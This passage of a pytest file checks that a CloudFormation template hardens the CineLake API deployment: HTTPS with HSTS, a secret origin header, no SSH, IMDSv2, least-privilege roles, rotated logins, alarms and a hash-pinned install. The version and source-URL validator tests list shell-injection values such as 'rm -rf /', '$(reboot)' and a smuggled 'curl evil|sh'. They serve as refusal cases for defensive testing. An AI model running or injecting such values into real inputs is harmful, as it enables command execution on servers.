    assert image["Default"] == AL2023_AMI_PARAMETER
    assert parameters[instance["InstanceType"]["Ref"]]["Default"] == "t3.medium"  # two warmed workers of ~850 MB
    # In the stack's public subnet, or the public subnet given with an existing VPC (a rule requires one).
    assert instance["SubnetId"] == {
        "Fn::If": ["CreateVpc", {"Ref": "PublicSubnetA"}, {"Ref": "ExistingPublicSubnetId"}]
    }
    rule = template["Rules"]["ExistingVpcNeedsAPublicSubnetForTheApi"]
    assert rule["Assertions"][0]["Assert"] == {"Fn::Not": [{"Fn::Equals": [{"Ref": "ExistingPublicSubnetId"}, ""]}]}
    # The public subnet routes to the internet gateway, and the instance waits for that route.
    associations = of_type(resources, "AWS::EC2::SubnetRouteTableAssociation").values()
    (table,) = {target(a["RouteTableId"]) for a in associations if a["SubnetId"] == {"Ref": "PublicSubnetA"}}
    routes = [r for r in of_type(resources, "AWS::EC2::Route").values() if r["RouteTableId"] == {"Ref": table}]
    assert [target(r["GatewayId"]) for r in routes] == ["InternetGateway"]
    assert resources["ApiInstance"]["DependsOn"] == "PublicNetworkReady"
    # A fixed public address: CloudFront's origin is named after it.
    assert target(resources["ApiAddress"]["Properties"]["InstanceId"]) == "ApiInstance"


# ---- HTTPS -----------------------------------------------------------------------------------------------------


def test_the_api_is_served_over_https_only_by_cloudfront_with_hsts(template, resources):
    config = resources["ApiDistribution"]["Properties"]["DistributionConfig"]
    behavior = config["DefaultCacheBehavior"]
    # GIVEN a default deployment (no domain): CloudFront's own certificate; with ApiDomainName, its ACM certificate
    assert config["ViewerCertificate"]["Fn::If"][0] == "HasApiDomain"
    custom, default = config["ViewerCertificate"]["Fn::If"][1:]
    assert default == {"CloudFrontDefaultCertificate": True}
    assert custom["AcmCertificateArn"] == {"Ref": "ApiCertificateArn"}
    assert (custom["SslSupportMethod"], custom["MinimumProtocolVersion"]) == ("sni-only", "TLSv1.2_2021")
    assert template["Conditions"]["HasApiDomain"] == {"Fn::Not": [{"Fn::Equals": [{"Ref": "ApiDomainName"}, ""]}]}
    assert template["Parameters"]["ApiDomainName"]["Default"] == ""
    # AND a domain comes with its certificate, and a certificate with its domain
    rules = template["Rules"]
    assert rules["ACustomDomainNeedsItsCertificate"]["Assertions"][0]["Assert"] == {
        "Fn::Not": [{"Fn::Equals": [{"Ref": "ApiCertificateArn"}, ""]}]
    }
    assert rules["ACertificateNeedsItsDomain"]["Assertions"][0]["Assert"] == {
        "Fn::Not": [{"Fn::Equals": [{"Ref": "ApiDomainName"}, ""]}]
    }
    # THEN plain HTTP is redirected, every method and header but Host reach the API, and nothing is cached
    assert behavior["ViewerProtocolPolicy"] == "redirect-to-https"
    assert "POST" in behavior["AllowedMethods"]
    assert behavior["CachePolicyId"] == "4135ea2d-6df8-44a3-9df3-4b5a84be39ad"  # Managed-CachingDisabled
    assert behavior["OriginRequestPolicyId"] == "b689b0a8-53d0-40ab-baf2-68738e2966ac"  # AllViewerExceptHostHeader
    # AND every answer carries HSTS (two years, subdomains) and the hardening headers
    headers = resources[target(behavior["ResponseHeadersPolicyId"])]["Properties"]["ResponseHeadersPolicyConfig"]
    hsts = headers["SecurityHeadersConfig"]["StrictTransportSecurity"]
    assert hsts["AccessControlMaxAgeSec"] >= 31536000 and hsts["IncludeSubdomains"] and hsts["Override"]
    assert headers["SecurityHeadersConfig"]["ContentTypeOptions"]["Override"] is True
    # AND the outputs are https:// URLs, on the custom domain when there is one
    for output, path in (("ApiUrl", ""), ("ApiDocsUrl", "/docs")):
        condition, with_domain, without = template["Outputs"][output]["Value"]["Fn::If"]
        assert condition == "HasApiDomain"
        assert with_domain == {"Fn::Sub": f"https://${{ApiDomainName}}{path}"}
        assert without == {"Fn::Sub": f"https://${{ApiDistribution.DomainName}}{path}"}
    assert not any("http://" in json.dumps(output) for output in template["Outputs"].values())


def test_the_instance_answers_cloudfront_only_through_its_secret_header(resources, api_user_data):
    config = resources["ApiDistribution"]["Properties"]["DistributionConfig"]
    (origin,) = config["Origins"]
    (header,) = origin["OriginCustomHeaders"]
    assert header["HeaderName"] == "X-CineLake-Origin"
    assert header["HeaderValue"] == {"Fn::Sub": "{{resolve:secretsmanager:${OriginVerifySecret}:SecretString:value}}"}
    assert origin["CustomOriginConfig"]["OriginProtocolPolicy"] == "http-only"
    # nginx answers 403 to anything without the header's value, which it reads from the same secret
    assert "'${OriginVerifySecret}'" in api_user_data
    assert "if ($cinelake_from_cloudfront = 0) {" in api_user_data and "return 403;" in api_user_data
    assert "map $http_x_cinelake_origin $cinelake_from_cloudfront" in api_user_data
    assert 'proxy_set_header X-CineLake-Origin "";' in api_user_data  # the secret never reaches the app
    assert resources["OriginVerifySecret"]["Properties"]["GenerateSecretString"]["PasswordLength"] >= 32


def test_the_instance_is_open_to_cloudfronts_origin_facing_addresses_only_and_never_to_ssh(template, resources):
    group = resources["ApiSecurityGroup"]["Properties"]
    (ingress,) = group["SecurityGroupIngress"]
    # GIVEN the instance's only inbound rule: port 80 from CloudFront's origin-facing managed prefix list
    assert (ingress["IpProtocol"], ingress["FromPort"], ingress["ToPort"]) == ("tcp", 80, 80)
    assert ingress["SourcePrefixListId"] == {"Ref": "CloudFrontOriginPrefixListId"}
    assert "CidrIp" not in ingress
    assert re.fullmatch(template["Parameters"]["CloudFrontOriginPrefixListId"]["AllowedPattern"], "pl-3b927c52")
    # AND no other rule opens it: no 443, no SSH from anywhere
    assert not [
        r
        for r in of_type(resources, "AWS::EC2::SecurityGroupIngress").values()
        if target(r["GroupId"]) == "ApiSecurityGroup"
    ]
    assert not any("Ssh" in name for name in template["Parameters"])


def test_operators_reach_the_instance_through_session_manager(template, resources):
    role = resources["ApiRole"]["Properties"]
    assert role["ManagedPolicyArns"] == [
        {"Fn::Sub": "arn:${AWS::Partition}:iam::aws:policy/AmazonSSMManagedInstanceCore"}
    ]
    assert template["Outputs"]["ApiInstanceId"]["Value"] == {"Ref": "ApiInstance"}


def test_the_launch_settings_require_imdsv2_on_one_hop(resources):
    instance = resources["ApiInstance"]["Properties"]
    assert instance["LaunchTemplate"] == {
        "LaunchTemplateId": {"Ref": "ApiLaunchTemplate"},
        "Version": {"Fn::GetAtt": ["ApiLaunchTemplate", "LatestVersionNumber"]},
    }
    options = resources["ApiLaunchTemplate"]["Properties"]["LaunchTemplateData"]["MetadataOptions"]
    assert options["HttpTokens"] == "required"
    assert options["HttpPutResponseHopLimit"] == 1


def test_the_api_role_reads_the_models_its_own_secrets_the_pipeline_state_and_writes_its_logs_only(resources):
    role = resources["ApiRole"]["Properties"]
    assert role["AssumeRolePolicyDocument"]["Statement"][0]["Principal"] == {"Service": "ec2.amazonaws.com"}
    assert resources["ApiInstanceProfile"]["Properties"]["Roles"] == [{"Ref": "ApiRole"}]
    granted = set()
    for statement in statements(role):
        assert statement["Effect"] == "Allow"
        assert not any(action.endswith("*") for action in as_list(statement["Action"]))
        granted |= {access_of(resource) for resource in as_list(statement["Resource"])}
    # Its own two database logins: never the master's secret
    assert granted == {
        "DataLakeBucket/models/*",
        "DataLakeBucket/releases/*",
        "DataLakeBucket/state/*",
        "DataLakeBucket",
        "ApiKeysSecret",
        "ApiDatabaseSecret",
        "AskDatabaseSecret",
        "OriginVerifySecret",
        "ApiLogGroup",
        "IdsDeadLetterQueue",
        "LoadDeadLetterQueue",
        "BulkDeadLetterQueue",
    }
    # /stats reads the dead-letter queues' depths, nothing more
    (depths,) = [s for s in statements(role) if "sqs:GetQueueAttributes" in as_list(s["Action"])]
    assert set(as_list(depths["Action"])) == {"sqs:GetQueueUrl", "sqs:GetQueueAttributes"}
    # Listing the bucket (for `aws s3 sync`) is limited to the models' prefix.
    (listing,) = [s for s in statements(role) if s["Action"] == "s3:ListBucket"]
    assert listing["Condition"] == {"StringLike": {"s3:prefix": "models/*"}}


def test_the_api_keys_secret_is_created_with_a_generated_key(resources):
    generated = resources["ApiKeysSecret"]["Properties"]["GenerateSecretString"]
    assert generated["GenerateStringKey"] == "api_keys"
    assert generated["ExcludePunctuation"] is True  # no comma: the value is a one-key CINELAKE_API_KEYS list
    assert "SecretString" not in resources["ApiKeysSecret"]["Properties"]


# ---- Database logins -------------------------------------------------------------------------------------------


def test_each_job_has_a_login_secret_of_its_own_rotated_by_the_migrate_function(template, resources):
    usernames = set()
    for job, logical_id in LOGIN_SECRETS.items():
        generated = resources[logical_id]["Properties"]["GenerateSecretString"]
        template_fields = json.loads(generated["SecretStringTemplate"])
        usernames.add(template_fields["username"])
        assert template_fields["username"] == f"cinelake_{job}"
        assert generated["GenerateStringKey"] == "password" and generated["PasswordLength"] >= 32
        # Rotated every 30 days by the migrate function, never before the migrations made the login
        (rotation,) = [
            r
            for r in resources.values()
            if r["Type"] == "AWS::SecretsManager::RotationSchedule"
            and r["Properties"]["SecretId"] == {"Ref": logical_id}
        ]
        assert rotation["Properties"]["RotationLambdaARN"] == {"Fn::GetAtt": ["MigrateFunction", "Arn"]}
        assert rotation["Properties"]["RotateImmediatelyOnUpdate"] is False
        assert "DatabaseMigrations" in rotation["DependsOn"]
        assert rotation["Properties"]["RotationRules"]["ScheduleExpression"] == "rate(30 days)"
    assert template["Parameters"]["DatabaseMasterUsername"]["Default"] not in usernames
    # The migrate function learns every login's secret, and Secrets Manager may invoke it
    variables = function(template, "MigrateFunction")["Environment"]["Variables"]
    arns = variables["DATABASE_LOGIN_SECRET_ARNS"]["Fn::Sub"]
    assert json.loads(re.sub(r"\$\{(\w+)\}", r"\1", arns)) == LOGIN_SECRETS
    permission = resources["MigrateRotationPermission"]["Properties"]
    assert (permission["Principal"], permission["Action"]) == ("secretsmanager.amazonaws.com", "lambda:InvokeFunction")
    # AND it alone may change them
    role = resources["MigrateRole"]["Properties"]
    (rotating,) = [s for s in statements(role) if "secretsmanager:PutSecretValue" in as_list(s["Action"])]
    assert {target(r) for r in rotating["Resource"]} == set(LOGIN_SECRETS.values())


def test_only_the_migrate_function_may_read_the_master_secret(resources):
    readers = set()
    for name, role in of_type(resources, "AWS::IAM::Role").items():
        for statement in statements(role):
            if DATABASE_SECRET in as_list(statement["Resource"]):
                readers.add(name)
    assert readers == {"MigrateRole"}


def test_database_connections_verify_the_rds_certificate(template, resources, api_user_data):
    for logical_id in DATABASE_FUNCTIONS:
        variables = function(template, logical_id)["Environment"]["Variables"]
        assert variables["DATABASE_CA_BUNDLE"] == "/opt/rds-ca-bundle.pem"  # the layer's build puts it there
        assert variables["DATABASE_CA_BUNDLE_URL"].startswith("https://truststore.pki.rds.amazonaws.com/")
    makefile = (REPO_ROOT / "Makefile").read_text(encoding="utf-8")
    assert '-o "$(ARTIFACTS_DIR)/rds-ca-bundle.pem" $(RDS_CA_BUNDLE_URL)' in makefile
    assert "DATABASE_CA_BUNDLE=/etc/cinelake/rds-ca-bundle.pem" in api_user_data
    assert "truststore.pki.rds.amazonaws.com/global/global-bundle.pem" in api_user_data
    # And the server refuses unencrypted connections, and bounds temporary files
    parameters = resources["DatabaseParameterGroup"]["Properties"]["Parameters"]
    assert parameters["rds.force_ssl"] == "1" and int(parameters["temp_file_limit"]) > 0


# ---- Alarms ------------------------------------------------------------------------------------------------------


def alarms_on(resources, namespace: str, metric: str) -> dict[str, dict]:
    """Each alarm on the metric, by what its one dimension names."""
    found = {}
    for alarm in of_type(resources, "AWS::CloudWatch::Alarm").values():
        if (alarm["Namespace"], alarm["MetricName"]) == (namespace, metric):
            (dimension,) = alarm["Dimensions"]
            found[target(dimension["Value"])] = alarm
    return found


def test_every_alarm_tells_the_alarm_topic(resources):
    for name, alarm in of_type(resources, "AWS::CloudWatch::Alarm").items():
        assert {"Ref": "AlarmTopic"} in alarm["AlarmActions"], name


def test_the_oldest_message_of_each_queue_that_feeds_a_function_is_watched(template, resources):
    ages = alarms_on(resources, "AWS/SQS", "ApproximateAgeOfOldestMessage")
    assert set(ages) == {target(event["Queue"]) for _, event in sqs_sources(template)}
    queues = of_type(resources, "AWS::SQS::Queue")
    for queue_id, alarm in ages.items():
        assert alarm["ComparisonOperator"] == "GreaterThanThreshold"
        # before the queue's retention would drop the message
        assert 0 < alarm["Threshold"] < queues[queue_id]["MessageRetentionPeriod"]


def test_every_function_alarms_on_errors_and_throttles(resources):
    for metric in ("Errors", "Throttles"):
        watched = alarms_on(resources, "AWS/Lambda", metric)
        assert set(watched) == set(FUNCTIONS), metric
        for alarm in watched.values():
            assert (alarm["Statistic"], alarm["ComparisonOperator"], alarm["Threshold"]) == (
                "Sum",
                "GreaterThanThreshold",
                0,
            )


def test_the_database_alarms_on_free_storage_and_cpu_credits(resources):
    storage = alarms_on(resources, "AWS/RDS", "FreeStorageSpace")["Database"]
    assert storage["ComparisonOperator"] == "LessThanThreshold" and storage["Threshold"] >= 1024**3
    credits = alarms_on(resources, "AWS/RDS", "CPUCreditBalance")["Database"]
    assert credits["ComparisonOperator"] == "LessThanThreshold" and credits["Threshold"] > 0


def test_the_instance_recovers_on_a_failed_status_check(resources):
    system = alarms_on(resources, "AWS/EC2", "StatusCheckFailed_System")["ApiInstance"]
    assert {"Fn::Sub": "arn:${AWS::Partition}:automate:${AWS::Region}:ec2:recover"} in system["AlarmActions"]
    guest = alarms_on(resources, "AWS/EC2", "StatusCheckFailed_Instance")["ApiInstance"]
    assert {"Fn::Sub": "arn:${AWS::Partition}:automate:${AWS::Region}:ec2:reboot"} in guest["AlarmActions"]


def test_a_failed_daily_run_lands_in_a_queue_that_alarms(template, resources):
    config = resources["ExtractChangesFunction"]["Properties"]["EventInvokeConfig"]
    destination = config["DestinationConfig"]["OnFailure"]
    assert destination["Type"] == "SQS"
    assert target(destination["Destination"]) == "ChangesScheduleDeadLetterQueue"
    assert "ChangesScheduleDeadLetterQueue" in alarms_on(resources, "AWS/SQS", "ApproximateNumberOfMessagesVisible")


# ---- Installing a release on the instance ----------------------------------------------------------------------


@pytest.mark.parametrize("version", ["v1.0.0", "main", "release/2026-12", "3f5a1d6c0b9e4a7d8c2f1e0a9b8c7d6e5f4a3b2c"])
def test_app_version_takes_tags_commits_and_branches(template, version):
    assert re.fullmatch(template["Parameters"]["AppVersion"]["AllowedPattern"], version)


@pytest.mark.parametrize("version", ["", "v1'; rm -rf /", "$(reboot)", "a b", "-x", "v1\nrm", "`id`"])
def test_app_version_refuses_anything_a_shell_would_read(template, version):
    assert not re.fullmatch(template["Parameters"]["AppVersion"]["AllowedPattern"], version)


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("https://github.com/example-org/cinelake.git", True),
        ("s3://cinelake-dev-data-lake/releases/cinelake.tar.gz", True),
        ("https://github.com/x/y.git'; curl evil|sh; '", False),
        ("s3://bucket/elsewhere/cinelake.tar.gz", False),
        ("http://github.com/x/y.git", False),
    ],
)
def test_app_source_url_is_a_plain_https_git_url_or_a_release_tarball(template, url, allowed):
    assert bool(re.fullmatch(template["Parameters"]["AppSourceUrl"]["AllowedPattern"], url)) is allowed


def test_the_user_data_installs_a_release_once_from_its_hash_pinned_lock(api_user_data):
    # It runs at every boot, but installs only when it changed (its own hash), so a reboot needs no registry
    assert "[scripts-user, always]" in api_user_data
    assert 'WANT=$(sha256sum "$0"' in api_user_data
    assert 'if [ "$(cat "$APP/installed" 2>/dev/null || true)" = "$WANT" ]; then' in api_user_data
    install_step = api_user_data.index('if [ "$(cat "$APP/installed"')
    assert api_user_data.index("dnf install") > install_step
    # ... and marks it installed only once it runs
    assert api_user_data.index('echo "$WANT" > "$APP/installed"') > api_user_data.index(
        "systemctl restart cinelake-api.service"
    )
    # The release: a commit or tag fetched exactly, or a tarball
    assert "fetch --depth 1 '${AppSourceUrl}' '${AppVersion}'" in api_user_data
    assert "checkout -q --detach FETCH_HEAD" in api_user_data
    # Exactly the locked versions, hash-checked; then the project offline
    assert "--require-hashes --no-deps" in api_user_data
    assert '-r "$RELEASE/app/requirements/api.lock"' in api_user_data
    assert '--no-deps --no-index --no-build-isolation "$RELEASE/app"' in api_user_data
    assert "pip install --quiet torch" not in api_user_data and "[api,model]" not in api_user_data
    # A reboot starts what is installed: the service is enabled and runs from the current release
    assert "systemctl enable cinelake-api.service" in api_user_data
    assert "WantedBy=multi-user.target" in api_user_data
    assert 'ln -sfn "$RELEASE" "$APP/current"' in api_user_data


def test_the_lock_pins_every_dependency_with_hashes():
    lock = (REPO_ROOT / "requirements" / "api.lock").read_text(encoding="utf-8")
    pinned = dict(re.findall(r"^([A-Za-z0-9._-]+)==(\S+) \\$", lock, flags=re.MULTILINE))
    # Every requirement is pinned with at least one hash
    requirements = re.findall(r"^[A-Za-z0-9._-]+[=<>!~]", lock, flags=re.MULTILINE)
    assert len(requirements) == len(pinned) > 50
    blocks = re.split(r"^(?=[A-Za-z0-9._-]+==)", lock, flags=re.MULTILINE)[1:]
    assert all("--hash=sha256:" in block for block in blocks)
    # It covers what the instance runs: the core, the api and model extras, and setuptools to build offline
    pyproject = tomllib.loads((REPO_ROOT / "pyproject.toml").read_text(encoding="utf-8"))
    project = pyproject["project"]
    wanted = (
        project["dependencies"] + project["optional-dependencies"]["api"] + project["optional-dependencies"]["model"]
    )
    names = {re.split(r"[<>=!~\[; ]", requirement, maxsplit=1)[0].lower().replace("_", "-") for requirement in wanted}
    locked = {name.lower().replace("_", "-") for name in pinned}
    assert names - locked == set()
    assert "setuptools" in locked
    # torch is the CPU build of the version `make install` uses
    makefile = (REPO_ROOT / "Makefile").read_text(encoding="utf-8")
    torch_version = re.search(r"^TORCH_VERSION \?= (\S+)$", makefile, flags=re.MULTILINE)[1]
    assert pinned["torch"] == f"{torch_version}+cpu"


def test_the_user_data_serves_the_api_under_systemd_behind_nginx_with_its_own_logins(api_user_data):
    # The environment the API reads: its two logins by their secrets, the CA bundle, the models, the API keys' secret.
    for line in (
        "DATABASE_SECRET_ARN=${ApiDatabaseSecret}",
        "ASK_DATABASE_SECRET_ARN=${AskDatabaseSecret}",
        "DATABASE_HOST=${Database.Endpoint.Address}",
        "MODELS_DIR=/var/lib/cinelake/models",
        "API_KEYS_SECRET_ARN=${ApiKeysSecret}",
        "API_RATE_LIMIT_STORE=/run/cinelake/rate-limits.sqlite",
    ):
        assert line in api_user_data
    assert "MasterUserSecret" not in api_user_data
    # The workers share their rate limits in a tmpfs systemd makes for the service
    assert "RuntimeDirectory=cinelake" in api_user_data
    # Several uvicorn workers on loopback under systemd, restarted when they fail ...
    assert "cinelake serve --host 127.0.0.1 --port 8000 --workers" in api_user_data
    assert "Environment=API_WORKERS=${ApiWorkers}" in api_user_data
    assert "Restart=on-failure" in api_user_data
    # ... behind nginx on port 80, with keep-alive to the workers and a cap on request bodies.
    for directive in ("listen 80 default_server;", "proxy_pass http://cinelake_api;", "keepalive 32;"):
        assert directive in api_user_data
    assert "client_max_body_size" in api_user_data
    # Logs go to the stack's log group.
    assert '"log_group_name": "${ApiLogGroup}"' in api_user_data
